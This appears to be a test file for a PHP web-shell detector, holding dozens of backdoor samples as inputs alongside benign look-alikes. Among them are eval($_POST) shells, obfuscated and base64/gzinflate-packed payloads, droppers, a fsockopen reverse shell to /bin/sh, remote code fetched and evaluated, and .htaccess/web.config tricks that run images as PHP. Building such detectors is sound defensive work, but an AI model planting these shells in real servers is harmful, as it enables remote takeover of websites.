import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { analyse } from './analyse.ts'
import { inflateAny, inflateRaw, latin1 } from './inflate.ts'
import { md5 } from './md5.ts'
import { type Grammars, loadGrammars } from './syntax.ts'
import type { Verdict } from './verdict.ts'

// Samples are text in this file and nothing else: no server runs a .ts file, and none of them names a real address.

const bytesOf = (name: string) => readFileSync(fileURLToPath(import.meta.resolve(name)))
let grammars: Grammars
beforeAll(async () => {
  grammars = await loadGrammars({
    runtime: bytesOf('web-tree-sitter/web-tree-sitter.wasm'),
    grammars: new Map([['php', bytesOf('@vscode/tree-sitter-wasm/wasm/tree-sitter-php.wasm')]]),
  })
})

const judged = (path: string, text: string) => {
  const bytes = Uint8Array.from(text, letter => letter.charCodeAt(0) & 255)
  return analyse({ path, bytes, text }, grammars)
}
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')
const packed = (text: string) => deflateRawSync(Buffer.from(text, 'latin1')).toString('base64')

const EVAL = 'eval($_POST["x"]);'

const CASES: readonly (readonly [name: string, text: string, verdict: Verdict, why: string])[] = [
  ['code of the request', `<?php @${EVAL}`, 'web-shell', '$_POST[x] reaches eval()'],
  ['in a picture', `GIF89a\x00\xff<?php ${EVAL} ?>`, 'web-shell', '$_POST[x] reaches eval()'],
  ['a packed layer', `<?php eval(gzinflate(base64_decode("${packed(EVAL)}")));`, 'web-shell', '$_POST[x] reaches eval()'],
  [
    'layers in layers',
    `<?php eval(base64_decode("${base64(`eval(str_rot13("riny(\\$_CBFG[1]);"));`)}"));`,
    'web-shell',
    '$_POST[1] reaches eval()',
  ],
  [
    'a name of letters',
    '<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET[1]);',
    'web-shell',
    'system() under another name',
  ],
  ['a name of mixed texts', "<?php $f = '2825$,' ^ 'AAAAAA'; $f($_POST['a']);", 'web-shell', 'system() under another name'],
  [
    'a name counted up',
    '<?php $_=[]; $_="$_"; $_=$_["!"=="@"]; $a=$_; $s=$_; for($i=0;$i<18;$i++) $s++; $e=$_; for($i=0;$i<4;$i++) $e++; $r=$_; for($i=0;$i<17;$i++) $r++; $t=$r; $t++; $t++; $f=$a.$s.$s.$e.$r.$t; $f($_POST[1]);',
    'web-shell',
    'ASSERT',
  ],
  [
    'a name out of a loop',
    '<?php $o=""; $k="rxrudl"; for($i=0;$i<strlen($k);$i++){ $o.=chr(ord($k[$i])^1); } $o($_COOKIE["c"]);',
    'web-shell',
    'system',
  ],
  [
    'a name out of a table',
    '<?php $t = str_split("abcdefghijklmnopqrstuvwxyz"); $f=$t[18].$t[24].$t[18].$t[19].$t[4].$t[12]; $f($_POST["c"]);',
    'web-shell',
    'system',
  ],
  [
    'a variable with a hidden name',
    '<?php ${"\\x5f\\x50\\x4f\\x53\\x54"}; $v="_PO"."ST"; eval($$v["x"]);',
    'web-shell',
    'eval()',
  ],
  [
    'through an object',
    '<?php class A { private $c; function __construct($c) { $this->c = $c; } function go() { system($this->c); } } $a = new A($_GET["c"]); $a->go();',
    'web-shell',
    '$_GET[c] reaches system()',
  ],
  [
    'through a closure',
    '<?php $f = function($x) { return shell_exec($x); }; echo $f($_REQUEST["c"]);',
    'web-shell',
    'shell_exec()',
  ],
  ['a callback', '<?php usort($_GET, "as"."sert");', 'web-shell', 'assert'],
  ['reflection', '<?php $r = new ReflectionFunction("sys"."tem"); $r->invoke($_GET["c"]);', 'web-shell', 'system'],
  ['a function made of text', '<?php $f = create_function("$a", $_POST["c"]); $f();', 'web-shell', 'create_function()'],
  [
    'a list whose names are sent',
    '<?php $a = new ArrayObject(array("t" => 1, $_REQUEST["p"] => 2)); $a->uksort("assert");',
    'web-shell',
    'assert()',
  ],
  [
    'an object made of text',
    '<?php class A { public $v; function __destruct() { eval($this->v); } } unserialize($_GET["o"]);',
    'web-shell',
    '$_GET[o] reaches eval()',
  ],
  [
    'a function of a name that was kept',
    '<?php $function=passthru; if (!$_POST["c"]) { $_POST["c"] = "id"; } $function($_POST["c"]);',
    'web-shell',
    'passthru()',
  ],
  [
    'every variable of the request',
    '<?php @extract ($_REQUEST); @die ($ctime($atime));',
    'web-shell',
    'names the function called',
  ],
  ['an include of the body', '<?php include "php://input";', 'web-shell', 'php://input'],
  [
    'code of another server',
    '<?php $c = file_get_contents("http://203.0.113.9/a.txt"); eval($c);',
    'web-shell',
    'http://203.0.113.9/a.txt',
  ],
  [
    'a session handler',
    '<?php session_id($_GET["q"]); session_set_save_handler("open", "close", chr(97)."ssert", "w", "d", "g");',
    'web-shell',
    'assert',
  ],
  ['a writer', '<?php $f = fopen($_POST["f"], "w"); fwrite($f, $_POST["t"]);', 'uploader', '$_POST[f] names the file'],
  [
    'an upload form of its own',
    '<?php if ($_POST["go"]) { copy($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]); }',
    'uploader',
    'an upload is kept under the name',
  ],
  [
    'a shell that is written',
    `<?php fputs(fopen("a.php", "w"), base64_decode("${base64(`<?php ${EVAL}?>`)}"));`,
    'dropper',
    'writes a web-shell to a.php',
  ],
  [
    'a page fetched and kept',
    '<?php file_put_contents("b.php", file_get_contents("http://203.0.113.9/s.txt"));',
    'dropper',
    'is written to b.php',
  ],
]

/** What was missed at first, each beside what looks like it and is ordinary. */
const TWINS: readonly (readonly [name: string, text: string, verdict: Verdict, why: string, ordinary: string])[] = [
  [
    'a table of letters read through isset',
    `<?php function r($s, $t) { $o = ""; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } return base64_decode($o); } eval/*x*/(r("${base64(EVAL).replaceAll('Z', '#')}", array("#" => "Z")));`,
    'web-shell',
    '$_POST[x] reaches eval()',
    '<?php function r($s, $t) { $o = ""; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } return $o; } echo r("some words", array("o" => "0"));',
  ],
  [
    'a list of functions among the variables of the page',
    '<?php ${"GLO"."BALS"}["n"] = "sys"."tem"; function go() { return $GLOBALS["n"]($_POST["c"]); } go();',
    'web-shell',
    'system()',
    '<?php $GLOBALS["n"] = "strtolower"; function go() { return $GLOBALS["n"]($_POST["c"]); } go();',
  ],
  [
    'a file that is filled and taken in',
    '<?php file_put_contents("cache.html", $_GET["list"], FILE_APPEND); require "cache.html";',
    'web-shell',
    'is written to cache.html, which is included',
    '<?php file_put_contents("cache.html", $_GET["list"], FILE_APPEND); require "header.html";',
  ],
  [
    'code in a comment',
    '<?php /** eval($_POST["c"]); */ class T {} $c = (new ReflectionClass("T"))->getDocComment(); eval(substr($c, strpos($c, "eval"), 17));',
    'web-shell',
    'a comment of the code',
    '<?php /** @route /x */ class T {} $c = (new ReflectionClass("T"))->getDocComment(); echo substr($c, strpos($c, "@route"), 9);',
  ],
  [
    'an evaluator by another name',
    '<?php $m = new Memcache(); $m->addServer("localhost", 11211, true, 100, 0, -1, true, create_function("$a,$b", "return assert($a);")); $m->connect($_REQUEST["p"]);'.replaceAll(
      '$a',
      '\\$a',
    ),
    'web-shell',
    'create_function()',
    '<?php usort($list, create_function("\\$a,\\$b", "return strcmp(\\$a, \\$b);")); echo $_GET["p"];',
  ],
  [
    'packed orders',
    `<?php $text = base64_decode("${base64('<?php @eval($_POST["guige"])?>')}"); file_put_contents($root . "/sess_1", $text);`,
    'dropper',
    'packed text says',
    `<?php $text = base64_decode("${base64('a small picture of a button, nothing else')}"); echo strlen($text), $_POST["guige"];`,
  ],
  [
    'a shell tied to a connection',
    '<?php $s = fsockopen("203.0.113.7", 4444); $p = proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $pipes);',
    'web-shell',
    'starts a shell',
    '<?php $s = fsockopen("192.0.2.25", 25); fwrite($s, "EHLO example\\r\\n"); $p = proc_open("/usr/bin/convert a.png b.jpg", array(), $pipes);',
  ],
  [
    'a page that reads itself',
    '<?php $f = fopen(__FILE__, "rb"); fseek($f, 700); eval(base64_decode(fread($f, 900)));',
    'web-shell',
    'the text of the page itself',
    '<?php $f = fopen(__FILE__, "rb"); echo htmlspecialchars(fread($f, 900));',
  ],
  [
    'code without a tag',
    EVAL,
    'web-shell',
    '$_POST[x] reaches eval()',
    'A note: never run what $_POST holds, and keep base64_decode( away from it.',
  ],
]

const ORDINARY: readonly (readonly [name: string, text: string])[] = [
  ['phpinfo', '<?php phpinfo();'],
  [
    'a template engine that runs what it compiled',
    '<?php class Engine { function render($source) { $code = $this->compile($source); ob_start(); eval("?>" . $code); return ob_get_clean(); } function show() { echo $this->render(file_get_contents($this->dir . "/page.tpl")); } }',
  ],
  [
    'a front controller',
    '<?php require "vendor/autoload.php"; $name = $_GET["controller"] . "Controller"; if (class_exists($name)) { $c = new $name(); $c->{$_GET["action"] . "Action"}($_POST); }',
  ],
  [
    'a file manager behind a log-in',
    '<?php require "auth.php"; require_login(); $dir = realpath(BASE . "/" . basename($_GET["dir"])); foreach (scandir($dir) as $f) echo htmlspecialchars($f); if (isset($_POST["delete"])) unlink($dir . "/" . basename($_POST["delete"]));',
  ],
  [
    'an upload of a plugin',
    '<?php require_once "admin.php"; check_admin_referer("upload"); $target = WP_CONTENT . "/uploads/" . sanitize_file_name($_FILES["zip"]["name"]); move_uploaded_file($_FILES["zip"]["tmp_name"], $target); unzip_file($target);',
  ],
  [
    'a deployment script',
    '<?php $out = shell_exec("cd /srv/app && git pull 2>&1"); file_put_contents("/var/log/deploy.log", $out); if (hash_equals($sig, $_SERVER["HTTP_X_SIGNATURE"])) exec("/srv/app/bin/migrate");',
  ],
  [
    'a picture that is made',
    `<?php $img = base64_decode("${'QUJD'.repeat(300)}"); header("Content-Type: image/png"); echo $img;`,
  ],
  [
    'callbacks of its own',
    '<?php $names = array_map("trim", explode(",", $_GET["n"])); usort($names, function($a, $b) { return strcmp($a, $b); }); $h = $handlers[$_GET["a"]]; if (is_callable($h)) $h($_POST);',
  ],
  [
    'escaped commands',
    '<?php exec("convert " . escapeshellarg($_FILES["f"]["tmp_name"]) . " " . escapeshellarg($out)); system("ping -c 1 " . escapeshellarg($_GET["h"]));',
  ],
  ['a page switch', '<?php $p = basename($_GET["p"]); include "pages/" . $p . ".php";'],
  ['settings that are saved', '<?php require "config.php"; file_put_contents(DATA . "/settings.json", json_encode($_POST));'],
  [
    'a cache of code',
    '<?php class Cache { function store($key, $code) { file_put_contents($this->dir . md5($key) . ".php", "<?php return " . var_export($code, true) . ";"); } }',
  ],
]

describe('PHP', () => {
  test.each(CASES)('%s', (_name, text, verdict, why) => {
    const judgement = judged('www/a.php', text)
    expect(judgement.verdict).toBe(verdict)
    expect(
      judgement.reasons
        .map(({ what }) => what)
        .join('\n')
        .toLowerCase(),
    ).toContain(why.toLowerCase())
    expect(judgement.parsed).toBe(true)
  })

  test.each(TWINS)('%s, and its twin', (_name, text, verdict, why, ordinary) => {
    const judgement = judged('www/a.php', text)
    expect([judgement.verdict, judgement.reasons.some(({ what }) => what.includes(why))]).toEqual([verdict, true])
    expect(judged('www/a.php', ordinary).verdict).toBe('clean')
  })

  test.each([
    [
      'pictures as pages',
      '<configuration><system.webServer><handlers><add name="x" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" /></handlers></system.webServer></configuration>',
      'web-shell',
    ],
    [
      'itself as a page',
      '<configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="c" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" /></handlers></system.webServer></configuration>',
      'web-shell',
    ],
    [
      'settings of a site',
      '<configuration><system.webServer><!-- <add path="*.jpg" type="System.Web.UI.PageHandlerFactory" /> --><handlers><add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="c:\\php\\php-cgi.exe" /></handlers><modules><add name="Log" type="Site.LogModule" /></modules></system.webServer></configuration>',
      'clean',
    ],
  ] as const)('web.config: %s', (_name, text, verdict) => {
    expect(judged('www/web.config', text).verdict).toBe(verdict)
  })

  test.each(ORDINARY)('stays quiet: %s', (_name, text) => {
    expect(judged('www/a.php', text).verdict).toBe('clean')
  })

  test('tells the way of the value', () => {
    const { flow } = judged('a.php', '<?php\n$a = $_POST["k"];\n$b = trim($a);\nfunction go($c) {\n  system($c);\n}\ngo($b);\n')
    expect(flow).toEqual([
      { line: 2, what: '$_POST[k]' },
      { line: 2, what: 'kept in a' },
      { line: 3, what: 'kept in b' },
      { line: 7, what: 'given to go() as c' },
      { line: 5, what: 'system()' },
    ])
  })

  test('shows what was packed as text', () => {
    const { decoded } = judged('a.php', `<?php eval(gzinflate(base64_decode("${packed(`/* hidden */ ${EVAL}`)}")));`)
    expect(decoded).toEqual([{ line: 1, how: 'base64_decode, gzinflate', text: `/* hidden */ ${EVAL}`, length: 31 }])
  })

  test('says when it could not parse', () => {
    const bytes = new TextEncoder().encode(`<?php ${EVAL}`)
    const judgement = analyse({ path: 'a.php', bytes, text: `<?php ${EVAL}` })
    expect(judgement).toMatchObject({ verdict: 'web-shell', parsed: false, whyNotParsed: 'no grammar was loaded' })
  })
})

describe('configuration', () => {
  test.each([
    ['.htaccess', 'AddType application/x-httpd-php .jpg', 'web-shell'],
    ['.htaccess', '<FilesMatch "logo.gif">\nSetHandler application/x-httpd-php\n</FilesMatch>', 'web-shell'],
    ['.htaccess', 'php_value auto_prepend_file "php://input"', 'web-shell'],
    ['.user.ini', 'auto_prepend_file=logo.gif', 'web-shell'],
    ['.htaccess', `SetHandler application/x-httpd-php\n# <?php ${EVAL} ?>`, 'web-shell'],
    [
      '.htaccess',
      '<FilesMatch "\\.php$">\nSetHandler "proxy:unix:/run/php/php-fpm.sock|fcgi://localhost"\n</FilesMatch>',
      'clean',
    ],
    ['.htaccess', 'AddType application/x-httpd-php .php .phtml\nAddType text/css .css', 'clean'],
    ['.htaccess', 'RewriteEngine On\nRewriteRule ^(.*)$ index.php?/$1 [L]', 'clean'],
    ['.user.ini', 'upload_max_filesize = 20M\nauto_prepend_file = "/var/www/waf.php"', 'clean'],
  ] as const)('%s: %s', (name, text, verdict) => {
    expect(judged(`www/${name}`, text).verdict).toBe(verdict)
  })
})

describe('unpacking', () => {
  test('as zlib packs', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 1, maxLength: 5_000 }), fc.constantFrom(1, 6, 9), (bytes, level) => {
        const text = latin1(bytes)
        for (const data of [deflateSync(bytes, { level }), gzipSync(bytes, { level }), deflateRawSync(bytes, { level })])
          expect(
            (data[0] === 0x1f || data[0] === 0x78 ? inflateAny : (d: string, n: number) => inflateRaw(d, 0, n))(
              latin1(data),
              10_000,
            )?.text,
          ).toBe(text)
      }),
      { numRuns: 100 },
    )
  })

  test('MD5 as everybody computes it', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), bytes => {
        expect(md5(latin1(bytes))).toBe(createHash('md5').update(bytes).digest('hex'))
      }),
    )
  })

  test('stops at its limit', () => {
    const bomb = latin1(deflateRawSync(Buffer.alloc(10_000_000)))
    expect(inflateRaw(bomb, 0, 1_000)).toEqual({ text: '\0'.repeat(1_000), cut: true })
  })
})

test('a class whose field names the class itself ends', () => {
  expect(
    judged(
      'a.php',
      `<?php class A { const X = A::Y; const Y = A::X; public $b = A::X; function f() { eval($this->b . A::X); } } ${EVAL}`,
    ).verdict,
  ).toBe('web-shell')
})

describe('hostile input', () => {
  const pieces = fc.constantFrom(
    ...'<?php |?>|$_POST|["x"]|eval|(|)|{|}|[|]|;|=|.|\'|"|`|\\|//|/*|*/|#|$|$f|exec|new |<<<X\n|X\n|\n|function f($a)|class A extends A|return |,|^|while(1)|for(;;)|foreach($a as $b)|f(|$this->|extract($_GET)|base64_decode(|"QUJD"|chr(65)|?->|::|fn($x)=>|...|switch($a){case 1:|goto a;|match(true){'.split(
      '|',
    ),
  )
  test('any text ends without a throw', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), list => {
        judged('a.php', `<?php eval($_POST[1]);${list.join('')}`)
      }),
      { numRuns: 400 },
    )
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), bytes => {
        judged('a.php', `<?php eval($_POST[1]);${latin1(bytes)}`)
      }),
      { numRuns: 200 },
    )
  })

  test.each(
    [
      '(',
      '[',
      '{',
      '"',
      '$a=',
      '$f(',
      '!',
      '-',
      '"".',
      '$a[',
      'if(1){',
      'function f(){',
      'new A(',
      '`',
      '<<<A\n',
      '1?',
      '@',
      '$$',
      'f(f(',
      '$a.=$a.$a;',
      'while(1){$a.="x";',
      'class A{function f(){',
      'eval("',
      '/*',
      "'\\",
      '++$a;',
      '?>',
      '<?php ',
    ].map(piece => [piece] as const),
  )('%s many times: it comes to an end, and the shell before it is seen', { timeout: 20_000 }, piece => {
    expect(judged('a.php', `<?php eval($_POST[1]); ${piece.repeat(60_000 / piece.length)}`).verdict).toBe('web-shell')
  })

  test.each([
    ['constants of a class that name each other', 'class A { const B = self::C; const C = self::B; public $x = A::B; }'],
    ['calls within calls', `$a = ${'str_rot13('.repeat(5_000)}"a"${')'.repeat(5_000)};`],
    ['a sum of thousands', `$a = ${Array.from({ length: 5_000 }, () => 'chr(65)').join('.')};`],
  ])('%s', { timeout: 20_000 }, (_name, code) => {
    expect(judged('a.php', `<?php ${code} system($_GET[1]);`).verdict).toBe('web-shell')
  })
})
